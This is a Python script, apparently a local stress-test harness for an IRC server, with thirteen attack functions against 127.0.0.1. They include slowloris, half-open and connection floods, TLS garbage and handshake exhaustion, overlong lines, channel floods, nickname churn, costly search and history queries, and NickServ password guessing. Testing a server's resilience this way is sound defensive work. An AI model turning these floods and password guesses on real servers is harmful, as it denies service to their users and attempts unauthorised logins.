"""What people who mean harm do, each as a function that goes on until its time is over. Run in a
process of its own, which gets what the others leave of the processor: a real one is on another computer.

    attacks.py NAME PORT TLS_PORT SECONDS
"""
import os
import random
import socket
import ssl
import sys
import time

dice = random.Random(7)


def connect(port):
    s = socket.socket()
    s.settimeout(5)
    try:
        s.connect(("127.0.0.1", port))
    except OSError:
        s.close()
        return None
    return s


def say(s, data):
    """False: the server has had enough of it."""
    try:
        s.sendall(data)
        return True
    except OSError:
        s.close()
        return False


def drain(s):
    s.setblocking(False)
    try:
        while s.recv(65536):
            pass
    except (BlockingIOError, ssl.SSLWantReadError):
        pass
    except OSError:
        return False
    finally:
        try:
            s.settimeout(5)
        except OSError:
            pass
    return True


def comes_in(port, nick):
    s = connect(port)
    if s:
        say(s, f"NICK {nick}\r\nUSER {nick} 0 * :x\r\n".encode())
    return s


def keep(crowd, size, make):
    """Refills a crowd of connections."""
    while len(crowd) < size:
        s = make()
        if not s:
            return
        crowd.append(s)


def nothing(port, tls_port, until):
    """Only the noise of another program on this computer, to compare with."""
    while time.monotonic() < until:
        pass


def half_open(port, tls_port, until):
    """Connections that say nothing."""
    crowd = []
    while time.monotonic() < until:
        keep(crowd, 900, lambda: connect(port))
        time.sleep(0.05)


def slowloris(port, tls_port, until):
    """A byte now and then, never a whole line."""
    crowd = []
    while time.monotonic() < until:
        keep(crowd, 400, lambda: connect(port))
        crowd = [s for s in crowd if say(s, b"N")]
        time.sleep(0.1)


def connections(port, tls_port, until):
    """As many connections as go, each ended at once: 20,000 and more."""
    while time.monotonic() < until:
        for _ in range(200):
            s = connect(port)
            if s:
                s.close()


def garbage(port, tls_port, until):
    """Noise at the door of TLS, some of it shaped like TLS."""
    while time.monotonic() < until:
        for head in (b"", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"\x17\x03\x03\x40\x00"):
            s = connect(tls_port)
            if s and say(s, head + dice.randbytes(2000)):
                s.close()


def handshakes(port, tls_port, until):
    """Whole handshakes, which cost the server more than the client, and nothing after them."""
    c = ssl.create_default_context()
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    while time.monotonic() < until:
        s = connect(tls_port)
        try:
            if s:
                c.wrap_socket(s).close()
        except OSError:
            pass


def long_lines(port, tls_port, until):
    """Lines that never end, and tags as long as they may be."""
    tags = b"@" + b";".join(b"+k%d=" % i + b"\\s" * 100 for i in range(19))
    s = None
    while time.monotonic() < until:
        s = s or comes_in(port, f"long{dice.randrange(10**6)}")
        if not s:
            continue
        data = dice.choice([b"x" * 60000, (tags[:4090] + b" PRIVMSG #cafe :x\r\n") * 20,
                            b"\r\n" * 30000, b"PRIVMSG #cafe :" + b"\xff" * 400 + b"\r\n"])
        if not (say(s, data) and drain(s)):
            s = None


def flood(port, tls_port, until):
    """Ten people shout into the room."""
    crowd = []
    while time.monotonic() < until:
        keep(crowd, 10, lambda: comes_in(port, f"loud{dice.randrange(10**6)}"))
        crowd = [s for s in crowd
                 if say(s, b"JOIN #cafe\r\n" + b"PRIVMSG #cafe :AAAA\r\n" * 50) and drain(s)]
        time.sleep(0.02)


def in_and_out(port, tls_port, until):
    """Into the room and out again, with another nickname each time."""
    crowd = []
    while time.monotonic() < until:
        keep(crowd, 10, lambda: comes_in(port, f"fly{dice.randrange(10**6)}"))
        line = b"".join(b"JOIN #cafe\r\nNICK fly%d\r\nPART #cafe\r\n" % dice.randrange(10**6)
                        for _ in range(10))
        crowd = [s for s in crowd if say(s, line) and drain(s)]
        time.sleep(0.02)


def multiline(port, tls_port, until):
    """Messages of as many lines as there may be, to everybody in the room."""
    crowd = []
    while time.monotonic() < until:
        keep(crowd, 5, lambda: comes_in(port, f"many{dice.randrange(10**6)}"))
        batch = (b"CAP REQ :batch message-tags draft/multiline\r\nJOIN #cafe\r\n"
                 b"BATCH +a draft/multiline #cafe\r\n" + b"@batch=a PRIVMSG #cafe :x\r\n" * 100 +
                 b"BATCH -a\r\n")
        crowd = [s for s in crowd if say(s, batch) and drain(s)]
        time.sleep(0.05)


def guesses(port, tls_port, until):
    """Wrong passwords, from many connections at once."""
    crowd = []
    while time.monotonic() < until:
        keep(crowd, 20, lambda: comes_in(port, f"who{dice.randrange(10**6)}"))
        crowd = [s for s in crowd if say(s, b"NS IDENTIFY ana wrong-%d\r\n" % dice.randrange(10**6))
                 and drain(s)]
        time.sleep(0.02)


def searches(port, tls_port, until):
    """Questions that are dear to answer."""
    crowd = []
    while time.monotonic() < until:
        keep(crowd, 10, lambda: comes_in(port, f"ask{dice.randrange(10**6)}"))
        crowd = [s for s in crowd if say(
            s, b"CAP REQ :batch soju.im/search draft/chathistory\r\nJOIN #cafe\r\nLIST\r\nWHO *\r\n"
            b"SEARCH text=a\r\nCHATHISTORY LATEST #cafe * 1000\r\nWHOWAS *\r\n") and drain(s)]
        time.sleep(0.02)


def deaf(port, tls_port, until):
    """Asks for much and reads nothing of it."""
    crowd = []
    while time.monotonic() < until:
        keep(crowd, 20, lambda: comes_in(port, f"deaf{dice.randrange(10**6)}"))
        crowd = [s for s in crowd if say(s, b"HELP\r\nMOTD\r\nNAMES #cafe\r\nJOIN #cafe\r\nCHATHISTORY LATEST #cafe * 1000\r\n")]
        time.sleep(0.02)


ATTACKS = {f.__name__: f for f in (nothing, half_open, slowloris, connections, garbage, handshakes, long_lines,
                                   flood, in_and_out, multiline, guesses, searches, deaf)}

if __name__ == "__main__":
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    name, port, tls_port, seconds = sys.argv[1:5]
    ATTACKS[name](int(port), int(tls_port), time.monotonic() + float(seconds))
